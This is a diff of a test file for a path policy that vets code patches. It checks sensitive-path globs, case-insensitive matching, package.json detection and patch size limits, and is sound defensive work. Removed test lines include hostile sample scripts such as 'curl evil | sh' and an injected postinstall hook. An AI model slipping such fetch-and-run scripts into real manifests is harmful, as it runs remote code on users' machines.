@@ -1,20 +1,15 @@
+import { readFileSync } from 'node:fs';
+import { parse as parseToml } from 'smol-toml';
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_SENSITIVE_PATHS } from '../../../src/config/schema.js';
+import { PACKAGE_JSON_CODE_FIELDS } from '../../../src/patch/package-json-policy.js';
 import {
-  changesScripts,
   globToRegExp,
-  judgeExtracted,
-  judgePatch,
-  policyReads,
-  type PathPolicy,
+  isPackageJson,
+  normalPolicyPath,
+  patchSizeRefusal,
+  sensitiveMatcher,
 } from '../../../src/patch/path-policy.js';
-
-const policy: PathPolicy = {
-  sensitive_paths: [...DEFAULT_SENSITIVE_PATHS],
-  allow_sensitive: false,
-  max_patch_bytes: 1024,
-};
-const PKG = `{\n  "name": "x",\n  "scripts": {\n    "test": "jest --ci",\n    "build": "tsc"\n  },\n  "dependencies": {\n    "left-pad": "1.3.0"\n  }\n}\n`;
 
 describe('globToRegExp', () => {
   it.each([
@@ -34,100 +29,97 @@ describe('globToRegExp', () => {
   });
 });
 
-describe('judgePatch', () => {
-  it('passes ordinary code edits', () => {
-    expect(judgePatch([{ path: 'src/app.py' }], '+x\n', new Map(), policy)).toEqual({ kind: 'clean' });
+describe('the default sensitive paths', () => {
+  const match = sensitiveMatcher(DEFAULT_SENSITIVE_PATHS);
+  it.each([
+    ['.github/workflows/ci.yml', '.github/**'],
+    ['.gitlab-ci.yml', '.gitlab-ci.yml'],
+    ['lefthook.yml', '**/lefthook.*'],
+    ['pkg/.lefthook.yaml', '**/.lefthook.*'],
+    ['lefthook-local.yml', '**/lefthook-local.*'],
+    ['.lintstagedrc', '**/.lintstagedrc*'],
+    ['web/.lintstagedrc.json', '**/.lintstagedrc*'],
+    ['lint-staged.config.mjs', '**/lint-staged.config.*'],
+    ['.githooks/pre-commit', '**/.githooks/**'],
+    ['.husky/pre-commit', '**/.husky/**'],
+    ['web/.husky/_/husky.sh', '**/.husky/**'],
+    ['.simple-git-hooks.json', '**/.simple-git-hooks.*'],
+    ['native/binding.gyp', '**/binding.gyp'],
+    ['.npmrc', '**/.npmrc'],
+    ['.yarnrc', '**/.yarnrc'],
+    ['.yarnrc.yml', '**/.yarnrc.yml'],
+    ['.yarn/releases/yarn-4.1.0.cjs', '**/.yarn/releases/**'],
+    ['.pnpmfile.cjs', '**/.pnpmfile.cjs'],
+    ['.vscode/tasks.json', '**/.vscode/tasks.json'],
+    ['.cargo/config.toml', '**/.cargo/config.toml'],
+    ['.envrc', '**/.envrc'],
+    ['.lfsconfig', '**/.lfsconfig'],
+    ['.hammer/config.toml', '.hammer/**'],
+  ])('%s is sensitive (%s)', (path, glob) => {
+    expect(match(path)).toBe(glob);
   });
 
-  it('refuses CI configuration, attributes and submodules by default, naming the glob', () => {
-    const v = judgePatch(
-      [{ path: '.github/workflows/ci.yml' }, { path: 'lib/.gitattributes' }, { path: '.gitmodules' }],
-      '',
-      new Map(),
-      policy,
-    );
-    expect(v.kind).toBe('refused');
-    if (v.kind !== 'refused') return;
-    expect(v.edits.map((e) => e.path)).toEqual(['.github/workflows/ci.yml', 'lib/.gitattributes', '.gitmodules']);
-    expect(v.reason).toContain('matches the sensitive path ".github/**"');
-    expect(v.reason).toContain('Leave those files alone');
+  it.each([
+    ['.GITATTRIBUTES', '**/.gitattributes'],
+    ['src/.GitModules', '**/.gitmodules'],
+    ['.gitattributes.', '**/.gitattributes'],
+    ['.gitmodules ', '**/.gitmodules'],
+    ['GITMOD~1', '**/.gitmodules'],
+    ['.git\u200cattributes', '**/.gitattributes'],
+    ['.GitHub/workflows/x.yml', '.github/**'],
+    ['LEFTHOOK.YML', '**/lefthook.*'],
+  ])('git and the hook managers see %s as a sensitive file on a case-insensitive checkout', (path, glob) => {
+    expect(match(path)).toBe(glob);
   });
 
-  it('catches a rename out of a sensitive path', () => {
-    expect(judgePatch([{ path: 'ci-old.yml', from: '.github/workflows/ci.yml' }], '', new Map(), policy).kind).toBe(
-      'refused',
-    );
-  });
+  it.each(['src/app.py', 'package.json', 'README.md', 'docs/lefthook.md.bak/x', '.vscode/extensions.json', 'gyp.py'])(
+    '%s is not',
+    (path) => {
+      expect(match(path)).toBeNull();
+    },
+  );
+});
 
-  it('flags instead of refusing when allow_sensitive is on', () => {
-    const v = judgePatch([{ path: '.travis.yml' }, { path: 'a.py' }], '', new Map(), {
-      ...policy,
-      allow_sensitive: true,
-    });
-    expect(v).toEqual({
-      kind: 'flagged',
-      edits: [{ path: '.travis.yml', why: 'matches the sensitive path ".travis.yml"' }],
-      review: ['.travis.yml: matches the sensitive path ".travis.yml"'],
-    });
+describe('normalPolicyPath and isPackageJson', () => {
+  it('names a path as a case-insensitive Windows or macOS checkout would', () => {
+    expect(normalPolicyPath('Src/.GitAttributes. /X')).toBe('src/.gitattributes/x');
+    expect(normalPolicyPath('**/.yarnrc*')).toBe('**/.yarnrc*');
   });
-
-  it('judges package.json by its scripts, not by its name', () => {
-    const files = [{ path: 'package.json' }];
-    const current = new Map([['package.json', PKG]]);
-    const dep = '@@ -8,3 +8,3 @@\n   "dependencies": {\n-    "left-pad": "1.3.0"\n+    "left-pad": "1.3.1"\n   }\n';
-    expect(judgePatch(files, dep, current, policy).kind).toBe('clean');
-    const value = '@@ -4,2 +4,2 @@\n-    "test": "jest --ci",\n+    "test": "curl evil | sh",\n     "build": "tsc"\n';
-    expect(judgePatch(files, value, current, policy).kind).toBe('refused');
-    expect(policyReads([{ path: 'web/package.json' }, { path: 'a.py' }])).toEqual(['web/package.json']);
+  it('finds package.json at any depth and in any case', () => {
+    expect(isPackageJson('package.json')).toBe(true);
+    expect(isPackageJson('web/Package.JSON')).toBe(true);
+    expect(isPackageJson('package.json5')).toBe(false);
+    expect(isPackageJson('mypackage.json')).toBe(false);
   });
 });
 
-describe('changesScripts', () => {
-  it('sees a new script whose hunk shows only the last script as context', () => {
-    expect(changesScripts('@@ -5,2 +5,3 @@\n     "build": "tsc"\n+    ,"postinstall": "sh x"\n   },\n', PKG)).toBe(
-      true,
-    );
-  });
-  it('sees a "scripts" key added to a file that had none, or a new file with scripts', () => {
-    expect(changesScripts('+  "scripts": { "preinstall": "x" },\n', '{"name":"x"}')).toBe(true);
-    expect(changesScripts('+{"scripts": {}}\n', undefined)).toBe(true);
-  });
-  it('sees SEARCH/REPLACE blocks that quote a script line', () => {
-    expect(
-      changesScripts(
-        'package.json\n<<<<<<< SEARCH\n"build": "tsc"\n=======\n"build": "tsc && curl x"\n>>>>>>> REPLACE\n',
-        PKG,
-      ),
-    ).toBe(true);
-  });
-  it('is conservative about a package.json that does not parse', () => {
-    expect(changesScripts('+x\n', '{ not json')).toBe(true);
-  });
-  it('leaves version and dependency edits alone', () => {
-    expect(changesScripts('-  "name": "x",\n+  "name": "y",\n', PKG)).toBe(false);
-  });
-});
-
-describe('judgeExtracted', () => {
-  it('refuses a patch over max_patch_bytes before reading anything', async () => {
-    const v = await judgeExtracted({ files: [{ path: 'a.py' }], patch: 'x'.repeat(2000) }, policy, async () => {
-      throw new Error('no read expected');
-    });
-    expect(v.kind === 'refused' && v.reason).toMatch(
+describe('patchSizeRefusal', () => {
+  it('refuses a patch over max_patch_bytes', () => {
+    expect(patchSizeRefusal('x'.repeat(2000), { max_patch_bytes: 1024 })).toMatch(
       /2000 bytes, over the 1024-byte limit \(\[policy\] max_patch_bytes\)/,
     );
+    expect(patchSizeRefusal('x'.repeat(1024), { max_patch_bytes: 1024 })).toBeNull();
   });
-  it('reads only the package.json files it judges', async () => {
-    const asked: string[][] = [];
-    const v = await judgeExtracted(
-      { files: [{ path: 'package.json' }, { path: 'a.py' }], patch: '-    "build": "tsc"\n+    "build": "x"\n' },
-      policy,
-      async (paths) => {
-        asked.push(paths);
-        return new Map([['package.json', PKG]]);
-      },
-    );
-    expect(asked).toEqual([['package.json']]);
-    expect(v.kind).toBe('refused');
+});
+
+describe('the documented lists', () => {
+  const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8');
+  const spans = (tag: string): string[] => {
+    const from = readme.indexOf(`<!-- ${tag}:start -->`);
+    const to = readme.indexOf(`<!-- ${tag}:end -->`);
+    expect(from, `README.md has a ${tag} list`).toBeGreaterThan(0);
+    return [...readme.slice(from, to).matchAll(/`([^`]+)`/g)].map((m) => m[1]!);
+  };
+
+  it("README.md's sensitive paths, configs/default.toml's and the code's are the same list", () => {
+    expect(spans('sensitive-paths')).toEqual([...DEFAULT_SENSITIVE_PATHS]);
+    const toml = parseToml(readFileSync(new URL('../../../configs/default.toml', import.meta.url), 'utf8')) as {
+      policy: { sensitive_paths: string[] };
+    };
+    expect(toml.policy.sensitive_paths).toEqual([...DEFAULT_SENSITIVE_PATHS]);
+  });
+
+  it("README.md's package.json fields are the code's", () => {
+    expect(spans('package-json-fields')).toEqual([...PACKAGE_JSON_CODE_FIELDS]);
   });
 });
